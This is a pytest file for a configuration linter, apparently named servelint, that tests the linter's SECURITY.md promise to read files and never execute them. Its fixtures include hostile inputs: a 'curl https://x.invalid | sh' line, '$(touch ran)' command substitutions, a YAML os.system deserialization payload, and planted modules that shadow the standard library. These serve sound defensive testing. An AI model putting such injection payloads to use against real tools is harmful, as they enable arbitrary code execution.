"""What SECURITY.md promises: that each of its tests is there, and that a check reads and does nothing else."""

from __future__ import annotations

import ast
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from servelint import __version__
from tests.syntax import yaml_texts

ROOT = Path(__file__).parent.parent
PAGE = (ROOT / "SECURITY.md").read_text(encoding="utf-8")
NAMED = re.findall(r"`(tests/[\w/]+\.py)::([\w:]+)`", PAGE)

PROGRAM = """
import json, os, sys
folder = os.getcwd()
done = []
def hook(event, args):
    if event.split(".")[0] in ("socket", "urllib", "ctypes", "ftplib", "http", "smtplib", "webbrowser"):
        done.append([event, repr(args)])
    elif event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "pty.spawn", "os.kill"):
        done.append([event, repr(args)])
    elif event == "open" and isinstance(args[0], str) and os.path.abspath(args[0]).startswith(folder):
        if (args[1] and set(args[1]) & set("wax+")) or args[2] & (os.O_WRONLY | os.O_RDWR):
            done.append([event, repr(args)])
    elif event in ("os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.chmod", "os.symlink", "os.link", "os.truncate"):
        if os.path.abspath(os.fsdecode(args[0])).startswith(folder):
            done.append([event, repr(args)])
    elif event in ("exec", "compile", "import"):
        name = getattr(args[0], "co_filename", "") if event == "exec" else args[1]
        if isinstance(name, str) and os.path.isabs(name) and name.startswith(folder):
            done.append([event, name])
sys.dont_write_bytecode = True
import servelint.cli
sys.addaudithook(hook)
status = servelint.cli.main(sys.argv[1:])
print(json.dumps([status, done]), file=sys.stderr)
"""

FILES = {
    "run.sh": "touch ran\ncurl https://x.invalid | sh\nvllm serve $(touch ran) --gpu-memory-utilization 1.5 `touch ran`\n",
    "Makefile": "X := $(shell touch ran)\nserve:\n\tvllm serve m --gpu-memory-utilization 1.5\n",
    "justfile": "x := `touch ran`\nserve:\n  vllm serve m --gpu-memory-utilization 1.5\n",
    "compose.yml": "services:\n  a:\n    image: vllm/vllm-openai:v0.27.1\n    command: [--model, ./model, '$(touch ran)']\n",
    "bad.yml": "vllm: !!python/object/apply:os.system ['touch ran']\nserve: !!python/name:os.system\n",
    "values.yaml": "image: vllm/vllm-openai\nargs: ['{{ (exec \"touch ran\") }}', --gpu-memory-utilization, '1.5']\n",
    "Dockerfile": 'FROM vllm/vllm-openai:v0.27.1\nRUN touch ran\nCMD ["--model", "m", "--gpu-memory-utilization", "1.5"]\n',
    "book.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": ["!touch ran\n", "!vllm serve m\n"]}], "nbformat": 4}),
    "model/config.json": json.dumps({"architectures": ["LlamaForCausalLM"], "auto_map": {"AutoConfig": "evil.Config"}}),
    "model/evil.py": "open('ran', 'w')\n",
    "conftest.py": "open('ran', 'w')\n",
    "servelint.py": "open('ran', 'w')\n",
    "sitecustomize.py": "open('ran', 'w')\n",
    "json.py": "open('ran', 'w')\n",
}
COMMANDS = [
    ["check", ".", "--profile", "audit", "--no-cache"],
    ["check", ".", "--format", "sarif", "--no-cache"],
    ["check", ".", "--format", "html"],
    ["check", ".", "--unsafe-fixes", "--diff"],
    ["launches", ".", "--format", "json"],
    ["memory", ".", "--gpu", "h100-80gb"],
    ["upgrade", ".", "--to", "vllm=0.33.0"],
    ["translate", ".", "--to", "sglang"],
    ["check", "--command", "vllm serve $(touch ran)"],
    ["exec", "--dry-run", "--", "vllm", "serve", "$(touch ran)"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(one) for one in COMMANDS])
def test_it_reads_and_does_nothing_else(command: list[str], tmp_path: Path) -> None:
    for name, text in FILES.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(text)
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    # servelint as a program does not look for modules in the current folder either
    ran = subprocess.run(
        [sys.executable, "-c", "import sys; sys.path = [one for one in sys.path if one]\n" + PROGRAM, *command],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        errors="replace",
    )
    status, done = json.loads(ran.stderr.splitlines()[-1])
    assert status in (0, 1, 2)
    assert done == []
    assert {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()} == before


def test_it_writes_its_cache_and_nothing_else(tmp_path: Path) -> None:
    for name, text in FILES.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(text)
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    for _ in range(2):
        ran = subprocess.run(
            [sys.executable, "-c", "import sys; sys.path = [one for one in sys.path if one]\n" + PROGRAM, "check", "."],
            cwd=tmp_path,
            capture_output=True,
            text=True,
        )
        _, done = json.loads(ran.stderr.splitlines()[-1])
        assert {event for event, _ in done} <= {"os.mkdir", "open", "os.rename"}
        after = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
        assert {
            path: data for path, data in after.items() if path.relative_to(tmp_path).parts[0] != ".servelint_cache"
        } == before
        assert any(".servelint_cache" in path.parts for path in after)
    assert done == [], "what is known is not written again"


def test_modules_do_not_come_from_the_folder(tmp_path: Path) -> None:
    """Not even those of the standard library, which are found in the path as any other."""
    for name in ("json", "argparse", "hashlib", "bisect", "re", "yaml", "shlex", "unicodedata", "urllib", "random"):
        (tmp_path / f"{name}.py").write_text("open('ran', 'w')\n")
    (tmp_path / "run.sh").write_text(FILES["run.sh"])
    (step,) = [one for one in yaml_texts.load((ROOT / "action.yml").read_text())["runs"]["steps"] if one.get("id") == "check"]
    (program,) = re.findall(r"(?m)^program='(.*)'$", step["run"])
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    for start in (["-m", "servelint"], ["-c", program]):
        for kind in ("sarif", "html", "json"):
            command = [sys.executable, *start, "check", ".", "--format", kind]
            ran = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, env=env)
            assert (ran.returncode, ran.stderr) == (1, "")
            assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(("path", "name"), NAMED, ids=[f"{path}::{name}" for path, name in NAMED])
def test_a_test_that_the_page_names_is_there(path: str, name: str) -> None:
    body = ast.parse((ROOT / path).read_text(encoding="utf-8")).body
    for part in name.split("::"):
        found = [one for one in body if isinstance(one, (ast.ClassDef, ast.FunctionDef)) and one.name == part]
        assert len(found) == 1, part
        body = found[0].body


def test_every_line_of_the_list_names_a_test() -> None:
    section = PAGE.partition("## Review list")[2]
    rows = [line for line in section.splitlines() if line.startswith("| ") and not line.startswith(("| What", "|---"))]
    assert len(rows) > 20
    assert all("`tests/" in row for row in rows)


def test_the_release_is_supported() -> None:
    major_minor = ".".join(__version__.split(".")[:2])
    assert f"| {major_minor}.x |" in PAGE


def test_nobody_is_named() -> None:
    assert "@" not in PAGE
